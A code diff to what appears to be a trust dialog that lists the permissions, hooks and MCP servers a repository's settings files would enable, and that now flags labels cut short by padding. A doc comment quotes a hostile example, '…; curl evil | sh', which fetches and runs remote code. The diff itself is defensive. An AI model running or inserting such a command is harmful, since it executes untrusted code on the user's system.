@@ -43,7 +43,15 @@ export const trustKey = {
 export const PROJECT_SETTINGS_FILES = ['.claude/settings.json', '.claude/settings.local.json'] as const;
 export const PROJECT_MCP_FILE = '.mcp.json';
 
-const short = (text: string, max = 160) => (text.length > max ? `${text.slice(0, max - 1)}…` : text);
+/**
+ * A label cut for the dialog. A repository can pad a hook command or a server entry so that what
+ * matters sits past the cut (`…; curl evil | sh`), so a cut label says so, with how much is hidden
+ * and where to read it whole: the person never mistakes a head for the whole.
+ */
+const short = (text: string, max = 1000) =>
+  text.length > max
+    ? `${text.slice(0, max)}… [${(text.length - max).toLocaleString('en-US')} more characters not shown: read the file before trusting]`
+    : text;
 
 /**
  * A server in words, with everything that changes what it does: its environment (`NODE_OPTIONS`,
@@ -72,8 +80,8 @@ function describeServer(config: unknown): string {
 /** The widening items of one parsed settings file. */
 export function wideningItems(s: ParsedSettings, file: string): TrustItem[] {
   const items: TrustItem[] = [];
-  const add = (kind: TrustItemKind, key: string, label: string, max?: number) =>
-    items.push({ kind, key, file, label: short(label, max) });
+  const add = (kind: TrustItemKind, key: string, label: string) =>
+    items.push({ kind, key, file, label: short(label) });
   for (const rule of s.allow) add('allow', trustKey.allow(rule), `Allow ${rule}`);
   for (const dir of s.additionalDirectories)
     add('allow', trustKey.additionalDirectory(dir), `Extra working directory: ${dir}`);
@@ -92,7 +100,7 @@ export function wideningItems(s: ParsedSettings, file: string): TrustItem[] {
       `${h.event} hook${h.matcher ? ` (${h.matcher})` : ''}: ${h.command}`,
     );
   for (const [name, config] of Object.entries(s.mcpServers))
-    add('mcp', trustKey.mcpServer(name, config), `MCP server "${name}": ${describeServer(config)}`, 1000);
+    add('mcp', trustKey.mcpServer(name, config), `MCP server "${name}": ${describeServer(config)}`);
   for (const name of s.enabledMcpjsonServers)
     add('mcp', trustKey.mcpEnabled(name), `Enables MCP server "${name}" from .mcp.json`);
   if (s.enableAllProjectMcpServers)
@@ -120,8 +128,8 @@ export function projectWideningItems(projectRoot: string): TrustItem[] {
           kind: 'mcp',
           key: trustKey.mcpServer(name, config),
           file: PROJECT_MCP_FILE,
-          // Longer than other labels: the environment and headers at the end must not be cut away.
-          label: short(`MCP server "${name}": ${describeServer(config)}`, 1000),
+          // The environment and headers at the end are part of the label (describeServer).
+          label: short(`MCP server "${name}": ${describeServer(config)}`),
         });
   }
   // The same item in both files is one decision.
